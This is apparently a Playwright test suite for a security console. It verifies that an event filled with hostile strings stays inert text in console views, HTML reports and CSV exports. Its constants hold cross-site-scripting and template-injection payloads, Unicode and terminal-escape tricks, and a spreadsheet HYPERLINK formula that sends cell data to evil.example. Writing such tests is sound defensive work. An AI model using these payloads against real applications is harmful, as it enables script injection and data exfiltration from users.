import { expect, test, type Page } from '@playwright/test';

import { eventually } from './support/eventually';
import { callApi, countEvents, createKey, joinBy, type Responder } from './support/responder';
import { Tocsin } from './support/tocsin';

const MARKUP = `<img src=x onerror="hacked()"><script>hacked()</script><svg onload=hacked()><a href="javascript:hacked()">go</a>`;
const TEMPLATE = "{{hacked()}}${hacked()}{{constructor.constructor('hacked()')()}}";
const UNSEEN = `invoice\u202Efdp.exe\u2066\u200b\u001b[31mred\u001b]8;;http://evil.example\u0007link\u0000`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
const NAME = '<b onmouseover=hacked()>mallory</b>';
const HOSTILE = `${FORMULA} ${MARKUP} ${TEMPLATE} [x](javascript:hacked()) ![x](http://evil.example/p.png) ${UNSEEN}`;
const FIELDS = ['host.name', 'process.name', 'process.command_line', 'file.path', 'url.full', 'user_agent.original'];
const EVENT = {
  ...Object.fromEntries(FIELDS.map((field) => [field, HOSTILE])),
  'user.name': NAME,
  message: HOSTILE,
  // A name of a field is text too.
  details: { [MARKUP]: 'x', giant: `${MARKUP} `.repeat(5_000) },
};

let tocsin: Tocsin;
let mara: Responder;
/** What a script of the event did, if one ran, and where a page of ours went on its own. */
const harm: string[] = [];

test.describe.configure({ mode: 'serial' });

test.beforeAll(async ({ browser }) => {
  test.setTimeout(300_000);
  tocsin = new Tocsin('embedded');
  await tocsin.start();
  mara = await joinBy(browser, tocsin.setUpLink, { username: 'mara', displayName: 'Mara Voss' });
  await mara.context.exposeFunction('hacked', () => harm.push('a script ran'));
  mara.context.on('request', (request) => {
    if (/evil\.example|\/x$/.test(request.url())) harm.push(`asked for ${request.url()}`);
  });
  mara.page.on('dialog', (dialog) => harm.push(`opened ${dialog.type()}`));
});

test.afterAll(async () => {
  await tocsin.stop();
  tocsin.remove();
});

test('an event whose every field is hostile is only text, wherever it is shown or taken to', async () => {
  const { page } = mara;
  await post('/api/lists', { name: 'bad-people', kind: 'watchlist', description: HOSTILE.replace(/\p{Cc}/gu, '') });
  await post('/api/lists/bad-people/entries', { value: NAME, facts: { reason: MARKUP } });
  const alert = await raiseAlert(page);
  const made = await post<{ number: string }>('/api/incidents', { title: MARKUP, alerts: [alert] });
  await post(`/api/incidents/${made.number}/items`, { kind: 'indicator', data: { value: NAME } });
  await post(`/api/alerts/${alert}/comments`, { text: HOSTILE.replace(/(?!\n)\p{Cc}/gu, '') });

  for (const path of [
    '/alerts/views/open',
    `/alerts/${alert}`,
    `/incidents/${made.number}`,
    '/incidents',
    `/hunt?${new URLSearchParams({ q: 'tocsin.source:hostile', columns: FIELDS.join() }).toString()}`,
    '/watchlists/bad-people',
    `/entities/identity/${encodeURIComponent(NAME)}`,
    '/settings/audit',
  ]) {
    await page.goto(tocsin.state.consoleUrl + path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.locator('tocsin-skeleton-rows')).toHaveCount(0);
    await expect(page.locator('main')).toContainText(/=hacked/);
    await expectOnlyText(page, path);
  }
});

test('nothing of it runs or calculates in a report or an export', async () => {
  const { page } = mara;
  const [incident] = (await callApi<{ incidents: { number: string }[] }>(page, 'GET', '/api/incidents')).body.incidents;
  const report = await textOf(`/api/incidents/${incident?.number}/report?format=html`);
  const file = await mara.context.newPage();
  // As a file it stands under no policy of ours.
  await file.setContent(report);
  await expectOnlyText(file, 'report');
  await expect(file.locator('body')).toContainText('onerror="hacked()"');
  await file.close();

  const wish = { q: 'tocsin.source:hostile', format: 'csv', columns: FIELDS };
  const range = { from: new Date(Date.now() - 3_600_000).toISOString(), to: new Date().toISOString() };
  const { id } = await post<{ id: string }>('/api/events/exports', { ...wish, ...range });
  const csv = await textOf(`/api/events/exports/${id}/file`);
  expect(csv).toContain(`"'=HYPERLINK`);
  expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  expect(harm).toEqual([]);
});

async function raiseAlert(page: Page): Promise<string> {
  const { id, secret } = await createKey(page, 'hostile');
  await eventually('the pipeline has the list', async () => {
    const lines = [JSON.stringify({ message: 'x', 'user.name': NAME })];
    const answer = await callApi<object>(page, 'POST', '/api/pipeline/simulate', { lines });
    return JSON.stringify(answer.body).includes('bad-people');
  });
  const sent = await fetch(new URL('/events', tocsin.state.ingestUrl), {
    method: 'POST',
    headers: {
      authorization: `Basic ${Buffer.from(`${id}:${secret}`).toString('base64')}`,
      'content-type': 'application/x-ndjson',
    },
    body: JSON.stringify(EVENT),
  });
  expect(sent.status).toBeLessThan(300);
  await eventually('it is stored', async () => (await countEvents(page, 'hostile')) === 1);
  return eventually('the alert is raised', async () => {
    const { body } = await callApi<{ alerts: { number: string }[] }>(page, 'GET', '/api/alerts');
    return body.alerts[0]?.number;
  });
}

/** Nothing of the event became an element, an attribute that acts, or an address. */
async function expectOnlyText(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const acting = [...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value)),
    );
    const strange = document.querySelectorAll('img[src="x"], a[href*="evil.example"], b[onmouseover]');
    const scripts = [...document.scripts].filter(({ textContent }) => textContent.includes('hacked'));
    return { acting: acting.length, strange: strange.length, scripts: scripts.length };
  });
  expect([where, found, harm]).toEqual([where, { acting: 0, strange: 0, scripts: 0 }, []]);
}

async function post<T>(path: string, body: object): Promise<T> {
  const answer = await callApi<T>(mara.page, 'POST', path, body);
  expect([path, answer.status < 300, answer.body]).toEqual([path, true, answer.body]);
  return answer.body;
}

function textOf(path: string): Promise<string> {
  return mara.page.evaluate(async (path) => (await fetch(path)).text(), path);
}
